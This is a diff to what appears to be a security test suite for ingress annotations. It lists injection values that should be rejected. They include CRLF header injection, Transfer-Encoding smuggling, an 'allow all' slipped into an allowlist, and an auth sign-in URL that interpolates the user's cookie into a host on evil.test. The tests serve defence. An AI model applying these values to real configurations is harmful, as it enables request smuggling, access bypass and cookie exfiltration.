@@ -157,7 +157,7 @@ ATTACKS = (
     by_annotation("frames-by-auth", _AUTH | {"auth-response-headers": "Content-Length"}, "closed"),
     by_annotation("smuggles-by-auth", _AUTH | {"auth-response-headers": "X, Transfer-Encoding"}, "closed"),
     by_annotation("method-of-auth", _AUTH | {"auth-method": "GET\r\nX: y"}, "closed"),
-    by_annotation("signin-of-authority", _AUTH | {"auth-signin": "https://$http_host.evil.test"}, "closed"),
+    by_annotation("signin-of-authority", _AUTH | {"auth-signin": "https://$http_cookie.evil.test"}, "closed"),
     by_annotation("param-of-signin", _AUTH | {"auth-signin-redirect-param": "rd=x&"}, "closed"),
     by_annotation("allowed-by-scope", {"whitelist-source-range": "fe80::1%eth0; allow all"}, "closed"),
     by_annotation("allowed-by-range", {"allowlist-source-range": "10.0.0.0-10.0.0.9"}, "closed"),
